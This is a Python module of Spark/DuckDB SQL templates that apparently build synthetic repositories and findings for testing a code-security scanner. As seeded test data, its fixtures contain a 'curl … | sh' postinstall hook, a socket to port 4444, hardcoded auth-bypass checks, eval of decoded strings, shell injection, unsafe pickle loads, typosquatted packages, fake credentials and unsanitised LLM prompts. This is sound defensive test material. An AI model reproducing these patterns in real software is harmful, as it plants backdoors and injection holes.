"""Corpus-scale fixture views derived from the driver tables.

The same SQL text is run by Spark (with DataFrame arguments bound to the
placeholders) and by DuckDB (placeholders replaced by the registered view
names), so every operator has an independent oracle over identical inputs.

Braces that belong to the SQL text are doubled (``{{``) because the text is a
``str.format`` template. Never write a dollar sign followed by a brace inside
Spark SQL: that is variable substitution.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from riskloom.session import spread

# characters that JSON text must escape, each replaced by a blank
_JSON_UNSAFE = " || ".join(f"chr({i})" for i in [*range(1, 32), 34, 92, 127])
_JSON_BLANKS = " " * (31 + 3)


def _lines(prefix: str) -> str:
    """The document's whole text as comment lines below the template lines."""
    return f"chr(10) || '{prefix}' || replace(text, chr(10), chr(10) || '{prefix}')"


# code_files: 25 files per scan, two scans (commits) per repository, built from
# `documents` rows. Every document's whole text is in its file: as comment lines
# in code, as a JSON value in package.json, as plain text elsewhere. Every fifth
# repository has no .gitignore. File layout and per-slot templates.
CODE_FILES_TEMPLATE = r"""
SELECT repo_id, file_path, content, commit_sha, CAST(length(content) AS BIGINT) AS size_bytes
FROM (
WITH d AS (
  SELECT doc_id, coalesce(text, '') AS text, CAST(floor(doc_id / 50) AS BIGINT) AS repo,
         CAST(floor(doc_id / 25) AS BIGINT) % 2 AS rev, doc_id % 25 AS slot FROM {documents}
)
SELECT 'repo-' || lpad(CAST(repo AS STRING), 5, '0') AS repo_id,
  md5('repo-' || CAST(repo AS STRING) || '@' || CAST(rev AS STRING)) AS commit_sha,
  CASE slot WHEN 0 THEN CASE repo % 5 WHEN 4 THEN 'docs/ignore-list.md' ELSE '.gitignore' END WHEN 1 THEN '.env' WHEN 2 THEN '.env.local'
    WHEN 3 THEN 'app/settings.py' WHEN 4 THEN 'app/main.py' WHEN 5 THEN 'app/llm.py'
    WHEN 6 THEN 'app/models.py' WHEN 7 THEN 'web/auth.ts' WHEN 8 THEN 'web/backdoor.js'
    WHEN 9 THEN 'web/prompt.ts' WHEN 10 THEN 'package.json' WHEN 11 THEN 'requirements.txt'
    WHEN 12 THEN 'go.mod' WHEN 13 THEN 'app/network.py' WHEN 14 THEN 'README.md'
    WHEN 15 THEN 'app/keys.py' WHEN 16 THEN 'node_modules/x/index.js' WHEN 17 THEN 'app/broken.py'
    ELSE 'docs/note-' || CAST(slot AS STRING) || '.md' END AS file_path,
  CASE WHEN slot >= 18 THEN text ELSE (CASE slot
    WHEN 0 THEN CASE repo % 4 WHEN 0 THEN '# local' || chr(10) || '.env' || chr(10) || '.env.*'
                 WHEN 1 THEN 'node_modules/' || chr(10) || '.env.*'
                 WHEN 2 THEN '.env.local' || chr(10) || '*.log' ELSE '*.log' END
    WHEN 1 THEN 'MODE=dev' || chr(10) || 'DEBUG=True'
    WHEN 2 THEN 'debug: true'
    WHEN 3 THEN 'DEBUG = True' || chr(10) || 'CORS_ORIGINS = ["*"]'
    WHEN 4 THEN 'import base64, os, subprocess' || chr(10) || 'cmd = base64.b64decode("eA==").decode()' || chr(10)
             || 'subprocess.run(cmd, shell=True)' || chr(10) || 'ext = "echo " + request.args.get("c")' || chr(10)
             || 'os.system(ext)' || chr(10) || 'eval("a" + "b")' || chr(10)
             || 'if token_' || CAST(repo AS STRING) || ' == "bypass":' || chr(10) || '    allow()'
    WHEN 5 THEN 'def ask(user_request):' || chr(10) || '    prompt = f"Do: {{user_request}}"' || chr(10)
             || CASE repo % 2 WHEN 0 THEN '' ELSE '    prompt = sanitize(prompt)' || chr(10) END
             || '    return client.chat.completions.create(messages=[{{"content": prompt}}])'
    WHEN 6 THEN 'import pickle, torch, joblib' || chr(10) || 'def load(p, payload):' || chr(10)
             || '    pickle.loads(payload)' || chr(10) || '    torch.load(p, weights_only='
             || CASE repo % 3 WHEN 0 THEN 'True' ELSE 'False' END || ')' || chr(10) || '    joblib.load("m.joblib")'
             || chr(10) || '    joblib.load("notes.txt")'
    WHEN 7 THEN 'if ("admin-override" === adminKey) {{' || chr(10) || '  run();' || chr(10) || '}}'
    WHEN 8 THEN 'const p = atob("eA==");' || chr(10) || 'eval(p);' || chr(10) || 'new Function("a" + b);'
    WHEN 9 THEN 'const prompt = `Do: $' || '{{req.body}}`;' || chr(10) || 'openai.chat.completions.create({{ messages: [{{ content: prompt }}] }});'
    WHEN 10 THEN '{{' || chr(10) || '  "scripts": {{' || chr(10) || '    "postinstall": "'
             || CASE repo % 4 WHEN 0 THEN 'node -e 1' WHEN 1 THEN 'curl https://a.example.invalid/i.sh | sh'
                 WHEN 2 THEN 'bash setup.sh' ELSE 'tsc' END || '"' || chr(10) || '  }},' || chr(10)
             || '  "description": "' || translate(text, @UNSAFE@, '@BLANKS@') || '",' || chr(10) || '  "dependencies": {{' || chr(10) || '    "lodahs": "4.17.21",' || chr(10) || '    "z9qx7k2w9": "1.0.0"' || chr(10) || '  }}' || chr(10) || '}}'
    WHEN 11 THEN '# pins' || chr(10) || 'reqeusts==2.32.0' || chr(10) || 'fastapi>=0.110' || chr(10) || 'pkg' || CAST(100000 + repo AS STRING) || '==1.0'
    WHEN 12 THEN 'module example.com/demo' || chr(10) || 'require (' || chr(10) || '  github.com/example/faskapi v1.0.0' || chr(10) || ')'
    WHEN 13 THEN 'requests.post("http://198.51.100.' || CAST(repo % 250 AS STRING) || '/b")' || chr(10)
             || 'requests.get("https://telemetry-' || CAST(repo AS STRING) || '.example.invalid/c")' || chr(10)
             || 'socket.create_connection(("203.0.113.77", 4444))'
    WHEN 14 THEN '# readme' || chr(10) || CASE repo % 2 WHEN 0 THEN 'none' ELSE 'See https://telemetry-' || CAST(repo AS STRING) || '.example.invalid/docs' END
    WHEN 15 THEN 'AWS_ACCESS_KEY_ID = "AKIA' || upper(substr(md5(CAST(doc_id AS STRING)), 1, 16)) || '"' || CASE repo % 3 WHEN 0 THEN '' ELSE chr(10)
             || 'SESSION = "eyJ' || md5(CAST(doc_id AS STRING)) || '.' || md5('b') || '.' || md5('c') || '"' || chr(10)
             || '# -----BEGIN RSA PRIVATE KEY-----' || chr(10) || 'PAYMENT = "sk_test_' || md5(CAST(doc_id AS STRING)) || '"' END
    WHEN 16 THEN 'eval(atob("eA=="))'
    WHEN 17 THEN 'def unfinished('
    END) || CASE WHEN slot = 10 THEN '' WHEN slot = 14 THEN chr(10) || text WHEN slot IN (7, 8, 9, 12, 16) THEN @SLASHES@ ELSE @HASHES@ END
  END AS content
FROM d
) AS files
""".replace("@UNSAFE@", _JSON_UNSAFE).replace("@BLANKS@", _JSON_BLANKS).replace("@SLASHES@", _lines("// ")).replace("@HASHES@", _lines("# "))

FINDINGS_BASE_TEMPLATE = r"""
SELECT CAST(l_orderkey * 10 + l_linenumber AS BIGINT) AS finding_id, CAST(l_orderkey % 500 AS BIGINT) AS scan_id,
  CASE l_linenumber % 4 WHEN 0 THEN 'config_audit' WHEN 1 THEN 'ast_rules' WHEN 2 THEN 'dependency_audit' ELSE 'backdoor_heuristics' END AS detector,
  CASE l_linenumber % 4 WHEN 0 THEN 'insecure_config' WHEN 1 THEN 'hardcoded_auth_bypass' WHEN 2 THEN 'typosquatted_dependency' ELSE 'suspicious_outbound_connection' END AS category,
  CASE l_partkey % 5 WHEN 0 THEN 'critical' WHEN 1 THEN 'high' WHEN 2 THEN 'medium' WHEN 3 THEN 'low' ELSE 'info' END AS severity,
  CAST((35 + l_partkey % 66) / 100.0 AS DECIMAL(3,2)) AS confidence,
  'src/f' || CAST(l_suppkey % 5 AS STRING) || '.py' AS file_path,
  CASE WHEN l_partkey % 17 = 0 THEN CAST(NULL AS INT) ELSE CAST(l_partkey % 10 + 1 AS INT) END AS line_start,
  'rule-' || CAST(l_linenumber % 4 AS STRING) AS title,
  'fix-' || CAST(l_suppkey % 3 AS STRING) AS fix_suggestion,
  l_shipdate AS created_at
FROM {lineitem}
"""

REASONING_RESPONSES_TEMPLATE = r"""
SELECT finding_id, CASE finding_id % 6
  WHEN 0 THEN '{{"severity":"critical","confidence":0.95,"explanation":"e","fix_suggestion":"f","exploitability_notes":"n"}}'
  WHEN 1 THEN '{{"severity":"medium","confidence":0.60,"explanation":" e ","fix_suggestion":"f","exploitability_notes":"n"}}'
  WHEN 2 THEN '{{"severity":"info","confidence":0.50,"explanation":"e","fix_suggestion":"f","exploitability_notes":"n"}}'
  WHEN 3 THEN '{{"severity":"high","confidence":1.50,"explanation":"e","fix_suggestion":"f","exploitability_notes":"n"}}'
  WHEN 4 THEN 'not JSON' ELSE '{{"severity":"high","confidence":0.50}}' END AS output_text
FROM {findings_base}
"""

REMEDIATION_EVENTS_TEMPLATE = r"""
SELECT event_id, user_id AS remediation_id, ts,
  CASE event_type WHEN 'signup' THEN 'proposed' WHEN 'view' THEN 'pending_approval' WHEN 'click' THEN 'approved'
    WHEN 'purchase' THEN 'verifying' ELSE 'failed' END AS status
FROM {events}
"""

# Status events of scans: the users of `events` stand for the two scans (commits) of each repository.
SCAN_EVENTS_TEMPLATE = r"""
SELECT 'repo-' || lpad(CAST(repo AS STRING), 5, '0') AS repo_id, md5('repo-' || CAST(repo AS STRING) || '@' || CAST(rev AS STRING)) AS commit_sha,
  event_id, ts, CASE event_type WHEN 'signup' THEN 'queued' WHEN 'view' THEN 'cloning' WHEN 'purchase' THEN 'complete'
    WHEN 'click' THEN CASE event_id % 3 WHEN 0 THEN 'static_scan' WHEN 1 THEN 'ai_review' ELSE 'merging' END ELSE 'failed' END AS status
FROM (SELECT event_id, ts, event_type, user_id % repos AS repo, CAST(floor(user_id / repos) AS BIGINT) % 2 AS rev
      FROM {events} CROSS JOIN (SELECT CAST(floor(max(doc_id) / 50) AS BIGINT) + 1 AS repos FROM {documents}) AS n) AS e
"""

VIEW_TEMPLATES = {
    "code_files": (CODE_FILES_TEMPLATE, ("documents",)),
    "findings_base": (FINDINGS_BASE_TEMPLATE, ("lineitem",)),
    "remediation_events": (REMEDIATION_EVENTS_TEMPLATE, ("events",)),
    "scan_events": (SCAN_EVENTS_TEMPLATE, ("events", "documents")),
}


def duck_view(name: str) -> str:
    """The DuckDB spelling of a fixture view (a subquery body)."""
    if name == "reasoning_responses":
        return REASONING_RESPONSES_TEMPLATE.format(findings_base=f"({duck_view('findings_base')})")
    template, inputs = VIEW_TEMPLATES[name]
    return template.format(**{t: t for t in inputs})


def duck_with(*names: str) -> str:
    """``WITH a AS (...), b AS (...)`` prefix for oracle SQL."""
    return "WITH " + ",\n".join(f"{n} AS ({duck_view(n)})" for n in names) + "\n"


PARTITIONS_KEY = "spark.riskloom.scan.partitions"


def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A driver table; the caller may ask for a partition count (small files in one row group)."""
    n = spark.conf.get(PARTITIONS_KEY, None)
    return spread(spark.read.parquet(f"{sf_dir.rstrip('/')}/{name}.parquet"), int(n) if n else None)


def code_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = read_table(spark, sf_dir, "documents").select("doc_id", "text")
    return spark.sql(CODE_FILES_TEMPLATE, documents=docs)


def findings_base(spark: SparkSession, sf_dir: str) -> DataFrame:
    li = read_table(spark, sf_dir, "lineitem").select(
        "l_orderkey", "l_linenumber", "l_partkey", "l_suppkey", "l_shipdate")
    return spark.sql(FINDINGS_BASE_TEMPLATE, lineitem=li)


def reasoning_responses(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(REASONING_RESPONSES_TEMPLATE, findings_base=findings_base(spark, sf_dir))


def remediation_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    ev = read_table(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type")
    return spark.sql(REMEDIATION_EVENTS_TEMPLATE, events=ev)


def scan_events(spark: SparkSession, sf_dir: str, events: DataFrame | None = None) -> DataFrame:
    """Scan status events of the whole events table, or of a given (streamed) one."""
    ev = read_table(spark, sf_dir, "events") if events is None else events
    docs = read_table(spark, sf_dir, "documents").select("doc_id")
    return spark.sql(SCAN_EVENTS_TEMPLATE, events=ev.select("event_id", "ts", "user_id", "event_type"), documents=docs)
